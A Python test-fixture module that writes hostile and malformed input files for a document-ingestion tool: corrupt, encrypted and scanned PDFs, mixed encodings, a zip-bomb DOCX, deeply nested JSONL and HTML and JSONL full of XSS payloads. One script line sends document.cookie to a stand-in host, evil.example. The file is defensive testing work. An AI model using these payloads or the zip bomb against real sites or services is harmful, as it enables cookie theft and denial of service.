"""Hostile and awkward input files, generated at test time in their real formats.

Every function writes one file into ``folder`` and returns its path. Nothing here is random
unless seeded, so a failure reproduces byte for byte.
"""

from __future__ import annotations

import codecs
import csv
import io
import json
import random
import zipfile
from pathlib import Path

ZH = (
    "国家动力电池回收利用实施方案\n"
    "一、总体要求\n"
    "加快建立动力电池回收利用体系，提升锂、钴、镍等关键矿产资源的保障能力。\n"
    "（一）基本原则\n"
    "坚持政府引导、企业主体、市场运作，推动梯次利用和再生利用协同发展。\n"
)
ZH_TW = (
    "國家動力電池回收利用實施方案\n加快建立動力電池回收利用體系，提升鋰、鈷、鎳等關鍵礦產資源的保障能力。\n"
)
EN = (
    "Critical Minerals Resilience Plan\n"
    "1. Purpose\n"
    "The government will secure lithium, cobalt and nickel supply for domestic battery makers.\n"
)


def _pdf(lines: list[str] | None = None, *, password: str | None = None, image: bool = False) -> bytes:
    from fpdf import FPDF

    pdf = FPDF()
    pdf.set_font("helvetica", size=12)
    pdf.add_page()
    for line in lines or []:
        pdf.multi_cell(0, 8, line, new_x="LMARGIN", new_y="NEXT")
    if image:
        # A scanned page: one raster image and no text objects at all.
        from PIL import Image, ImageDraw

        img = Image.new("L", (400, 200), 255)
        draw = ImageDraw.Draw(img)
        for y in range(20, 180, 16):
            draw.line((20, y, 380, y), fill=0, width=3)  # "lines of text" as pixels
        buf = io.BytesIO()
        img.save(buf, format="PNG")
        buf.seek(0)
        pdf.image(buf, x=10, y=10, w=190)
    if password:
        pdf.set_encryption(owner_password="owner-" + password, user_password=password)
    return bytes(pdf.output())


def text_pdf(folder: Path, name: str = "report.pdf", lines: list[str] | None = None) -> Path:
    path = folder / name
    path.write_bytes(_pdf(lines or EN.strip().split("\n")))
    return path


def corrupt_pdf(folder: Path) -> Path:
    """A real PDF whose body after the header was overwritten with garbage (a broken download)."""
    data = bytearray(_pdf(EN.strip().split("\n")))
    rng = random.Random(7)
    for i in range(16, len(data)):
        data[i] = rng.randrange(256)
    path = folder / "corrupt.pdf"
    path.write_bytes(bytes(data))
    return path


def encrypted_pdf(folder: Path) -> Path:
    path = folder / "locked.pdf"
    path.write_bytes(_pdf(EN.strip().split("\n"), password="s3cret"))
    return path


def scanned_pdf(folder: Path) -> Path:
    path = folder / "scan.pdf"
    path.write_bytes(_pdf(image=True))
    return path


def empty_file(folder: Path, name: str) -> Path:
    path = folder / name
    path.write_bytes(b"")
    return path


def whitespace_file(folder: Path, name: str = "blank.txt") -> Path:
    path = folder / name
    path.write_bytes(" \n\t\r\n  \u3000 \n".encode("utf-8"))
    return path


def binary_txt(folder: Path) -> Path:
    """A PNG renamed to ``.txt``: header, NULs and compressed noise."""
    rng = random.Random(11)
    data = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(rng.randrange(256) for _ in range(4096))
    path = folder / "photo.txt"
    path.write_bytes(data)
    return path


def encoded_text(folder: Path, name: str, text: str, encoding: str, bom: bytes = b"") -> Path:
    path = folder / name
    path.write_bytes(bom + text.encode(encoding))
    return path


def mixed_encoding_text(folder: Path) -> Path:
    """UTF-8 lines with one line pasted in GB18030 (a file concatenated from two sources)."""
    first, second, *rest = ZH.strip().split("\n")
    data = (first + "\n").encode("utf-8") + (second + "\n").encode("gb18030")
    data += "\n".join(rest).encode("utf-8") + b"\n"
    path = folder / "mixed.txt"
    path.write_bytes(data)
    return path


def mixed_within_line_text(folder: Path, base: str = "utf-8") -> Path:
    """Text in ``base`` whose third line is half in the other codec (UTF-8 / GB18030): pasted between editors."""
    other = "gb18030" if base == "utf-8" else "utf-8"
    lines = ZH.strip().split("\n")
    third = lines[2]
    cut = len(third) // 2
    data = "\n".join(lines[:2]).encode(base) + b"\n"
    data += third[:cut].encode(other) + third[cut:].encode(base) + b"\n"
    data += "\n".join(lines[3:]).encode(base) + b"\n"
    path = folder / f"mixed-line-{base}.txt"
    path.write_bytes(data)
    return path


def nul_text(folder: Path) -> Path:
    """UTF-8 text with stray NUL bytes (a C tool's fixed-width export)."""
    data = EN.encode("utf-8").replace(b"government", b"govern\x00ment").replace(b"\n1.", b"\x00\x00\n1.")
    path = folder / "nuls.txt"
    path.write_bytes(data)
    return path


def big_text(folder: Path, megabytes: int = 50) -> Path:
    """A ``megabytes`` MB bilingual plain-text file, written in chunks (never held in memory)."""
    path = folder / "big.txt"
    para = (ZH + EN).encode("utf-8")
    target = megabytes * 1024 * 1024
    with path.open("wb") as fh:
        fh.write(b"Large Policy Compendium\n")
        written = 0
        n = 0
        while written < target:
            chunk = b"".join(f"{n + i}. ".encode() + para for i in range(200))
            fh.write(chunk)
            written += len(chunk)
            n += 200
    return path


def big_csv(folder: Path, rows: int = 1_000_000) -> Path:
    path = folder / "laws.csv"
    with path.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["id", "title", "description", "country", "date"])
        for i in range(rows):
            w.writerow(
                [
                    f"L{i}",
                    f"Battery law {i}",
                    f"Row {i}: recycling quota {i % 97} percent for lithium cells.",
                    "Japan" if i % 2 else "France",
                    f"{2000 + i % 24}-01-0{1 + i % 9}",
                ]
            )
    return path


def zip_bomb_docx(folder: Path) -> Path:
    """A 24 MB ``word/document.xml`` of zeros deflated to ~25 KB (ratio ~1000x)."""
    path = folder / "bomb.docx"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zf:
        zf.writestr("[Content_Types].xml", '<?xml version="1.0"?><Types/>')
        with zf.open("word/document.xml", "w") as member:
            chunk = b"\0" * (1 << 20)
            for _ in range(24):
                member.write(chunk)
    return path


def malformed_csv(folder: Path) -> Path:
    """A record whose quoted cell is followed by more text (line 2), then a good record (line 3)."""
    path = folder / "broken.csv"
    path.write_text('title,text\n"Plan A,"lithium supply\nPlan B,cobalt\n', encoding="utf-8")
    return path


def broken_sheet_xlsx(folder: Path) -> Path:
    """A real workbook whose sheet XML was cut in half and ends in garbage (an interrupted copy)."""
    good = xlsx(folder, "whole.xlsx", ["title", "text"], [["Plan A", "Lithium supply chain plan."]])
    path = folder / "broken-sheet.xlsx"
    with zipfile.ZipFile(good) as zin, zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as zout:
        for info in zin.infolist():
            data = zin.read(info.filename)
            if info.filename == "xl/worksheets/sheet1.xml":
                data = data[: len(data) // 2] + b"<<<garbage"
            zout.writestr(info, data)
    good.unlink()
    return path


def deep_jsonl(folder: Path, depth: int = 100_000) -> Path:
    """JSON Lines whose every record nests ``depth`` arrays (a generator bug, or an attack)."""
    path = folder / "deep.jsonl"
    deep = "[" * depth + '"x"' + "]" * depth
    path.write_text("".join(f'{{"title": "Deep {i}", "text": {deep}}}\n' for i in range(2)), encoding="utf-8")
    return path


def jsonl_with_bad_line(folder: Path, rows: int = 100, bad: int = 50, tag: str = "jl") -> Path:
    """``rows`` JSON Lines records, the one at line ``bad`` cut short (a truncated write)."""
    lines = [
        json.dumps(
            {"title": f"Battery rule {tag} {i}", "text": f"Recycling quota {tag} {i}: lithium {i} percent."}
        )
        for i in range(rows)
    ]
    lines[bad - 1] = lines[bad - 1][:25]
    path = folder / f"{tag}.jsonl"
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def xlsx(folder: Path, name: str, header: list[str], rows: list[list[object]]) -> Path:
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(header)
    for r in rows:
        ws.append(r)
    path = folder / name
    wb.save(path)
    return path


def docx(folder: Path, name: str, paragraphs: list[str]) -> Path:
    import docx as _docx

    d = _docx.Document()
    for p in paragraphs:
        d.add_paragraph(p)
    path = folder / name
    d.save(str(path))
    return path


HOSTILE_TITLE = "<img src=x onerror=\"alert('title')\">Evil & <b>Bold</b> 电池"
HOSTILE_HTML = f"""<!doctype html>
<html><head><title>{HOSTILE_TITLE}</title>
<script>alert('head')</script></head>
<body onload="alert('body')">
<h1>Battery Security Strategy 电池安全战略</h1>
<script>document.location='https://evil.example/?c='+document.cookie</script>
<p onclick="alert('p')">The government will stockpile lithium and cobalt for battery makers.
<a href="javascript:alert('link')">read more</a> <a href="JaVaScRiPt:alert(2)">again</a></p>
<p>Recycling targets apply from 2030; &lt;script&gt;alert('escaped')&lt;/script&gt; is shown as text.</p>
<img src="x" onerror="alert('img')">
<iframe src="javascript:alert('frame')"></iframe>
<style>body {{ background: url("javascript:alert('css')") }}</style>
</body></html>
"""


def hostile_html(folder: Path) -> Path:
    path = folder / "hostile.html"
    path.write_text(HOSTILE_HTML, encoding="utf-8")
    return path


HOSTILE_TEXT = (
    '<script>alert("doc")</script> Lithium stockpile plan\n'
    '"><img src=x onerror=alert(1)> battery recycling quota <a href="javascript:alert(3)">x</a>\n'
    "{{7*7}} ${7*7} </div></body> ' \" & 电池回收\n"
)


def hostile_csv(folder: Path) -> Path:
    """Tabular rows whose title and text are raw markup strings (stored as text after stripping)."""
    path = folder / "hostile.jsonl"
    rows = [
        {"title": '"><script>alert("t1")</script>', "text": HOSTILE_TEXT},
        {"title": "<svg onload=alert(2)>Cobalt & Nickel", "text": "javascript:alert(4) cobalt nickel supply"},
    ]
    path.write_text("\n".join(json.dumps(r, ensure_ascii=False) for r in rows) + "\n", encoding="utf-8")
    return path


def catalog_missing_field(folder: Path) -> Path:
    from policyscope.corpus.catalog import default_catalog_path

    data = json.loads(default_catalog_path().read_text(encoding="utf-8"))
    entries = data["entries"] if isinstance(data, dict) else data
    del entries[2]["issuer"]
    path = folder / "catalog.json"
    path.write_text(json.dumps(data, ensure_ascii=False, indent=1), encoding="utf-8")
    return path


UTF16_BOMS = {"utf-16-le": codecs.BOM_UTF16_LE, "utf-16-be": codecs.BOM_UTF16_BE}


def policy_folder(folder: Path, n: int, tag: str = "batch", seed: int = 0) -> Path:
    """``n`` distinct bilingual policy texts (a few KB each) in ``folder``; every one mentions ``tag``."""
    rng = random.Random(seed)
    folder.mkdir(parents=True, exist_ok=True)
    zh_lines = [ln for ln in ZH.strip().split("\n")[2:]]
    en_lines = EN.strip().split("\n")[2:]
    for i in range(n):
        lines = [f"Policy {tag} {i} 政策文件 第{i}号"]
        for j in range(12):
            k = rng.randrange(10_000)
            lines.append(f"{j + 1}. {rng.choice(zh_lines)} 目标{k}吨，{tag}{i}。")
            lines.append(f"{rng.choice(en_lines)} Target {k} tonnes by {2025 + j} under {tag} {i}.")
        (folder / f"{tag}-{i:04d}.txt").write_text("\n".join(lines) + "\n", encoding="utf-8")
    return folder
